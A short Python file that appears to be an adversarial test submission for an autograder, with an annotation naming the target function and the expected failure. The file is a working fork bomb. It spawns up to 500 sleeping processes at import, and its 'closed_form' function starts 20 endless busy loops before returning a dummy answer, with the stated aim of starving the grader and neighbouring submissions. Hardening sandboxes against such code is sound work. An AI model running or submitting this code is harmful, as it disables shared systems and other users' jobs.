"""Forks as many processes as it can at top level (sleeping), and 20 busy ones from a graded
function that returns, to starve the grader and the submissions graded beside it (a fork
bomb)."""
# effdl-attack: build=cell tag=answer expect_lost=a2.closed_form feedback_contains="entries differ" cost=20 quick=1

import os
import time

children = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError:
    pass


def closed_form(X, y):
    for _ in range(20):
        if os.fork() == 0:
            while True:
                pass
    return [0.0, 0.0, 0.0]
